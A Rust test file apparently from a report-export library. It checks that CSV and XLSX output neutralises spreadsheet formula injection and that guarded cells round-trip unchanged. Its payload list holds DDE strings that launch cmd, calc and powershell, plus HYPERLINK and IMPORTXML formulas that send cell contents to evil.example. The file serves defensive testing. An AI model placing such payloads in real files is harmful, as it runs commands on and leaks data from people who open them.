//! Formula injection: what a hostile cell would make a spreadsheet run must come out as text, and
//! come back unchanged (OWASP, *CSV Injection*).

use calamine::{Data, Reader, Xlsx};
use custodia_core::reports::model::*;
use custodia_output::csv::{guard, unguard};
use custodia_output::{csv, xlsx};

use crate::fixture;

/// 120 payloads: 20 ways to begin × 6 things to run.
fn payloads() -> Vec<String> {
    const STARTS: [&str; 20] = [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        "＝",
        "＋",
        "－",
        "＠",
        " =",
        "\u{a0}+",
        "\u{feff}=",
        "\u{200b}@",
        "\u{3000}=",
        "'=",
        "''-",
        "\u{200e} =",
        " \t",
    ];
    const BODIES: [&str; 6] = [
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")",
        "SUM(1,1)*cmd|' /C powershell'!A0",
        "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
        "2+5+cmd|' /C calc'!A0,\"quoted\"",
        "DDE(\"cmd\";\"/C calc\";\"x\")\nsecond line",
    ];
    let all: Vec<String> =
        STARTS.iter().flat_map(|s| BODIES.iter().map(move |b| format!("{s}{b}"))).collect();
    assert_eq!(all.len(), 120);
    all
}

fn report() -> Report {
    let mut report = fixture::register(0);
    let Block::Table(table) = &mut report.blocks[0] else { panic!("a table") };
    let column = |title: String| Column { key: "c", title, align: Align::Start, grow: 0 };
    table.columns = vec![column("=head()".into()), column("b".into()), column("c".into())];
    table.rows = payloads()
        .into_iter()
        .map(|p| Row {
            level: RowLevel::Item,
            cells: vec![
                Cell::Text(p.clone()),
                Cell::Code(p.clone()),
                Cell::Toned(Tone::Warning, p.clone()),
            ],
            note: Some(p),
            target: None,
        })
        .collect();
    report
}

/// Whether a spreadsheet may take a CSV cell for a formula, judged without our own rule.
fn live(cell: &str) -> bool {
    let inked = cell.trim_start_matches(|c: char| {
        c.is_whitespace() || matches!(c, '\u{feff}' | '\u{200b}' | '\u{200e}' | '\u{200f}')
    });
    inked.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
        || cell.starts_with(['\t', '\r', '\n'])
}

#[test]
fn no_payload_is_live_in_csv_and_every_one_comes_back() {
    let bytes = csv::render(&report()).unwrap();
    crate::files::save("payloads.csv", &bytes);
    let text = bytes.strip_prefix("\u{feff}".as_bytes()).expect("a byte order mark");
    let mut reader = ::csv::ReaderBuilder::new().from_reader(text);
    assert_eq!(&reader.headers().unwrap()[0], "'=head()");
    let mut rows = 0;
    for (record, payload) in reader.records().zip(payloads()) {
        let record = record.unwrap();
        assert_eq!(record.len(), 4);
        for cell in &record {
            assert!(!live(cell), "{cell:?} is live");
            assert_eq!(unguard(cell), payload);
        }
        rows += 1;
    }
    assert_eq!(rows, 120);
}

#[test]
fn every_cell_of_a_csv_is_quoted() {
    let bytes =
        csv::render(&fixture::renewals(custodia_core::text::Lang::En, fixture::LANDSCAPE)).unwrap();
    let text = String::from_utf8(bytes).unwrap();
    for line in text.trim_start_matches('\u{feff}').split("\r\n").filter(|l| !l.is_empty()) {
        assert!(line.starts_with('"') && line.ends_with('"'), "{line}");
        assert!(!line.replace("\",\"", "").contains(",\"") || line.contains("\"\""), "{line}");
    }
}

#[test]
fn guarding_leaves_plain_words_and_numbers_alone_and_is_undone_exactly() {
    for plain in [
        "",
        "Laptop",
        "-5",
        "+3.50",
        "-1,234.56",
        "12",
        "'quoted'",
        "a=b",
        "5CG-1",
        "€5",
        "’=",
        "''",
    ] {
        assert_eq!(guard(plain), plain);
        assert_eq!(unguard(plain), plain);
    }
    for (text, guarded) in [
        ("=1", "'=1"),
        ("+1+1", "'+1+1"),
        ("-a", "'-a"),
        ("--1", "'--1"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("'=1", "''=1"),
        ("\tx", "'\tx"),
        ("\u{feff}=1", "'\u{feff}=1"),
        ("＝1", "'＝1"),
        ("-1-", "'-1-"),
        ("+39 02", "'+39 02"),
    ] {
        assert_eq!(guard(text), guarded);
        assert_eq!(unguard(guarded), text);
    }
}

#[test]
fn no_payload_is_a_formula_or_a_link_in_xlsx_and_every_one_comes_back() {
    let bytes = xlsx::render(&report()).unwrap();
    crate::files::save("payloads.xlsx", &bytes);
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(&bytes)).unwrap();
    let names = book.sheet_names();
    for name in &names {
        let formulas = book.worksheet_formula(name).unwrap();
        assert!(formulas.used_cells().next().is_none(), "{name} has formulas");
    }
    let sheet = book.worksheet_range(&names[0]).unwrap();
    for (row, payload) in payloads().into_iter().enumerate() {
        for column in 0..4 {
            let value = sheet.get_value((row as u32 + 1, column)).unwrap();
            // XML knows one line end; workbooks write it as a line feed.
            let same = |text: &str| text.replace('\r', "\n") == payload.replace('\r', "\n");
            assert!(matches!(value, Data::String(text) if same(text)), "{value:?} ≠ {payload:?}");
        }
    }
    let mut archive = zip_names(&bytes);
    archive.retain(|n| {
        n.contains("hyperlink") || n.contains("externalLink") || n.contains("_rels/sheet")
    });
    assert!(archive.is_empty(), "{archive:?}");
}

/// Names in the central directory of a ZIP file.
fn zip_names(bytes: &[u8]) -> Vec<String> {
    let mut names = Vec::new();
    for at in 0..bytes.len().saturating_sub(46) {
        if bytes[at..].starts_with(b"PK\x01\x02") {
            let length = usize::from(u16::from_le_bytes([bytes[at + 28], bytes[at + 29]]));
            if let Some(name) = bytes.get(at + 46..at + 46 + length) {
                names.push(String::from_utf8_lossy(name).into_owned());
            }
        }
    }
    assert!(names.iter().any(|n| n == "xl/workbook.xml"), "{names:?}");
    names
}
